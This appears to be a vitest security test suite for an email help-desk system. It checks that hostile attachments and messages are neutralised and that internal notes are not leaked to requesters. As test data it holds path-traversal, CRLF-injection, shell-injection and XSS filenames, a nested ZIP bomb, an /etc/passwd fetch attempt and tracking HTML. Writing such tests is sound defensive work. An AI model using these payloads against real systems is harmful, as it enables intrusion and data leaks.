import { readdir } from 'node:fs/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ANN, BOB, SECRET, Siege, TRUSTED } from '../../support/attack-desk.ts'
import { checkedBy, filePart, type Letter, textPart } from '../../support/mail/letter.ts'
import { zipOf } from '../../support/mail/zip.ts'

// Files that mean harm: by their names, by what is in them, and as the way by which something internal gets out.

let siege: Siege

beforeAll(async () => {
  siege = await Siege.begin()
})

afterAll(() => siege.end())

interface Shown {
  messages: {
    text: string
    direction: string
    attachments: { name: string; type: string; size: number; danger: string | null }[]
  }[]
}

const shown = async (ref: string) => (await siege.desk.as('bob', `show ${ref}`)).data as Shown
let strangers = 0
const stranger = () => {
  strangers += 1
  return `f${strangers}@evil.example`
}

/** The files of a ticket that such a letter opens. */
async function filesOf(letter: Letter) {
  await siege.withstands({ from: stranger(), ...letter }, 'opened')
  return (await shown(await siege.lastTicket())).messages[0]?.attachments ?? []
}

const encoded = (name: string) => `filename*=utf-8''${encodeURIComponent(name)}`
const quoted = (name: string) => `filename="${name}"`
const NAMES: [what: string, parameter: string, stored: string | RegExp][] = [
  ['a way up', quoted('../../../../tmp/planted-1.txt'), 'planted-1.txt'],
  ['a way up on Windows', quoted('..\\\\..\\\\planted-2.txt'), 'planted-2.txt'],
  ['a way up, encoded', encoded('../../../../etc/planted-3'), 'planted-3'],
  ['a way up in both directions', encoded('..\\../planted-4.txt'), 'planted-4.txt'],
  ['an absolute path', quoted('/etc/planted-5'), 'planted-5'],
  ['a drive', quoted('C:\\\\Windows\\\\planted-6.dll'), 'planted-6.dll'],
  ['a stream of NTFS', encoded('planted-7.txt:evil.exe'), /^planted-7\.txt_evil\.exe$/],
  ['a network share', encoded('\\\\evil.example\\share\\planted-8.exe'), 'planted-8.exe'],
  ['CR LF', encoded('planted-9\r\nBcc: victim@third.example.txt'), /^planted-9[ _]Bcc_ victim@third\.example\.txt$/],
  ['NUL', encoded('planted-10.exe\0.pdf'), /^planted-10\.exe[ _]?\.pdf$/],
  ['a reading direction that hides the ending', encoded('planted-11\u202efdp.exe'), /^planted-11_?fdp\.exe$/],
  ['a device', quoted('CON'), '_CON'],
  ['a device with an ending', quoted('aux.txt'), '_aux.txt'],
  ['4,000 letters', quoted(`${'a'.repeat(4_000)}.pdf`), /^a{100,200}….pdf$/],
  ['nothing', quoted(''), /^attachment-\d+\.\w+$/],
  ['one dot', quoted('.'), /^attachment-\d+\.\w+$/],
  ['only dots', quoted('.....'), /^attachment-\d+\.\w+$/],
  ['dots at the end', quoted('planted-12.exe. . .'), 'planted-12.exe'],
  ['a path that ends in a slash', quoted('planted-13/'), /^attachment-\d+\.\w+$/],
  ['signs that shells read', encoded('$(touch planted-14);`id`|x.txt'), /^\$\(touch planted-14\);`id`_x\.txt$/],
  ['markup', encoded('<img src=x onerror=alert(1)>.png'), /^_img src=x onerror=alert\(1\)_\.png$/],
  ['the templates', encoded('{{ note | raw }}.txt'), '{{ note _ raw }}.txt'],
  ['two endings', quoted('invoice.pdf.exe'), 'invoice.pdf.exe'],
]

describe('names', () => {
  test.each(NAMES)('%s', async (_, parameter, stored) => {
    const file = filePart(
      ['Content-Type: application/octet-stream', `Content-Disposition: attachment; ${parameter}`],
      'x',
    )
    const [kept] = await filesOf({ parts: [textPart('See.'), file] })
    expect(kept?.name).toEqual(typeof stored === 'string' ? stored : expect.stringMatching(stored))
    expect(kept?.name).not.toMatch(/[/\\\p{Cc}\u202a-\u202e<>]|^\.|\.$/u)
  })

  test('a name that leaves with the answer of an agent adds no field to it', async () => {
    const disposition = `Content-Disposition: attachment; ${encoded('a\r\nBcc: victim@third.example\r\n\r\n".txt')}`
    const file = filePart(['Content-Type: text/plain', disposition], 'x')
    const head = [`In-Reply-To: <${siege.token.told}@desk.example>`]
    await siege.withstands({ from: BOB, head, parts: [textPart('See.'), file] }, 'appended HD-1 out', [ANN])
    expect(siege.world.to(ANN).at(-1)?.raw).not.toMatch(/^Bcc:/im)
  })

  test('an ending that runs is pointed out to agents', async () => {
    const [kept] = await filesOf({
      parts: [textPart('See.'), filePart(['Content-Type: application/pdf; name="bill.pdf.exe"'], 'MZ')],
    })
    expect(kept?.danger).toBe('a program disguised as a document')
    expect(siege.world.to(BOB).at(-1)?.text).toContain('bill.pdf.exe (take care:')
  })
})

describe('contents', () => {
  const kept = (size: number) => [expect.objectContaining({ size })]

  test('a ZIP of ZIPs of zeros is kept as it came, and never unpacked', async () => {
    const inner = zipOf([{ name: '0', content: Buffer.alloc(8 * 1024 * 1024) }])
    const bomb = zipOf(Array.from({ length: 16 }, (_, index) => ({ name: `../planted-${index}.zip`, content: inner })))
    const file = filePart(['Content-Type: application/zip; name="42.zip"'], bomb)
    expect(await filesOf({ parts: [textPart('See.'), file] })).toEqual(kept(bomb.length))
  })

  test('a winmail.dat that claims gigabytes is kept as it came', async () => {
    const claims = Buffer.alloc(64)
    claims.writeUInt32LE(0x223e9f78, 0)
    claims[6] = 2
    claims.writeUInt32LE(0x0006800f, 7)
    claims.writeUInt32LE(0x7fffffff, 11)
    const file = filePart(['Content-Type: application/ms-tnef; name="winmail.dat"'], claims)
    expect(await filesOf({ parts: [textPart('See.'), file] })).toEqual(kept(claims.length))
  })

  test('pieces of a message are never put together', async () => {
    const piece = (number: number, text: string): Letter => ({
      type: `message/partial; id="planted@evil.example"; number=${number}; total=2`,
      text,
    })
    await filesOf(piece(1, `From: ${BOB}\r\nSubject: Whole\r\n\r\n!close`))
    await filesOf(piece(2, ' HD-1\r\n'))
    expect((await siege.tickets()).get('HD-1')?.facts.state).toBe('open')
  })

  test.each([
    ['a file of this machine', 'access-type=local-file; name="/etc/passwd"'],
    ['an address of the internet', 'access-type=URL; URL="http://127.0.0.1:1/planted"'],
    ['a mail server', `access-type=mail-server; server="${ANN}"`],
  ])('a body that lies elsewhere is not fetched: %s', async (_, access) => {
    const file = `Content-Type: message/external-body; ${access}\r\n\r\nContent-Type: text/plain\r\n\r\n`
    await filesOf({ parts: [textPart('See.'), file] })
    expect(JSON.stringify(await shown(await siege.lastTicket()))).not.toContain('root:')
  })

  test('HTML that would tell where it is read is no HTML any more when agents are told of it', async () => {
    const html = `<p>Hi</p><blockquote><img src="http://evil.example/?a"><form action="http://evil.example/"><input name=p></form><link rel=stylesheet href=//evil.example/x><img src='http://evil.example/?`
    await filesOf({ type: 'text/html; charset=utf-8', text: html })
    expect(String(siege.world.to(BOB).at(-1)?.html)).not.toMatch(/<(?:img|form|input|link)/)
  })

  test('messages within messages without end are kept', async () => {
    const deep = Array.from({ length: 200 }, () => 'Content-Type: message/rfc822\r\n\r\n').join('')
    await filesOf({ parts: [textPart('See.'), deep] })
  })

  test('10,000 parts are set aside whole, with word to the agents', async () => {
    const parts = Array.from({ length: 10_000 }, () => 'Content-Type: image/png\r\n\r\nx')
    await siege.withstands({ from: stranger(), parts: [textPart('See.'), ...parts] }, 'quarantined:unparsable')
  })
})

describe('what an agent brings along', () => {
  const note = () => siege.world.to(BOB).findLast(mail => /Note/.test(mail.subject ?? ''))?.raw ?? ''
  const answer = (parts: string[], type?: string): Letter => ({
    from: BOB,
    head: [`In-Reply-To: <${siege.token.told}@desk.example>`],
    parts: [textPart('Restart it.'), ...parts],
    ...(type ? { type } : {}),
  })

  test.each([
    ['a note as a message', () => answer([`Content-Type: message/rfc822\r\n\r\n${note()}`])],
    [
      'a note as a message in place',
      () => answer([`Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n${note()}`]),
    ],
    ['a note as a message of RFC 6532', () => answer([`Content-Type: message/global\r\n\r\n${note()}`])],
    ['a note in a digest', () => answer([`\r\n${note()}`], 'multipart/digest')],
    [
      'a note as a file of a mail program',
      () => answer([filePart(['Content-Type: application/octet-stream; name="note.eml"'], note())]),
    ],
    [
      'a note as a file of Outlook',
      () => answer([filePart(['Content-Type: application/vnd.ms-outlook; name="note.msg"'], SECRET)]),
    ],
    ['the head of a note', () => answer([`Content-Type: text/rfc822-headers\r\n\r\nSubject: ${SECRET}\r\n`])],
  ])('%s stays inside', async (_, letter) => {
    expect(note()).toContain(SECRET)
    await siege.withstands(letter(), 'appended HD-1 internal')
    expect(siege.world.to(BOB).at(-1)?.subject).toContain('was not sent to the requester')
  })

  test('a note that comes along with a command to answer stays inside', async () => {
    const told = `Content-Type: message/rfc822\r\n\r\n${note()}`
    const letter = { from: BOB, parts: [textPart('!reply HD-1\n\nRestart it.'), told] }
    await siege.send({ ...letter, top: checkedBy(TRUSTED, 'dmarc=pass header.from=staff.example') })
    for (const mail of siege.world.to(ANN)) siege.expectHarmless(mail)
  })

  test.each([
    [
      'quoted',
      (text: string) => ({
        text: `Restart it once.\n\nOn Mon, 2 Mar 2026 at 10:00, Help desk wrote:\n${text.replace(/^/gm, '> ')}`,
      }),
    ],
    [
      'below a line of Outlook',
      (text: string) => ({
        text: `Restart it twice.\n\n________________________________\nFrom: Help desk <help@desk.example>\nSent: Monday\nTo: Bob\nSubject: Note\n\n${text}`,
      }),
    ],
    [
      'in HTML',
      (text: string) => ({
        type: 'text/html',
        text: `<p>Restart it again.</p><blockquote>${text}<img src='http://evil.example/?</blockquote>`,
      }),
    ],
    [
      'in HTML that nobody sees',
      (text: string) => ({
        type: 'text/html',
        text: `<p>Restart it later.</p><blockquote type="cite" style="display:none">${text}</blockquote>`,
      }),
    ],
  ])('a note that is %s below an answer is cut off', async (_, quoting) => {
    const told = siege.world.to(BOB).findLast(mail => /Note/.test(mail.subject ?? ''))?.text ?? ''
    expect(told).toContain(SECRET)
    const head = [`In-Reply-To: <${siege.token.told}@desk.example>`]
    await siege.withstands({ from: BOB, head, ...quoting(told) }, 'appended HD-1 out', [ANN])
    expect(siege.world.to(ANN).at(-1)?.text).toContain('Restart it ')
  })
})

test('nothing lies in the spool any more', async () => {
  expect(await readdir(`${siege.desk.place.folder}/spool`).catch(() => [])).toEqual([])
})
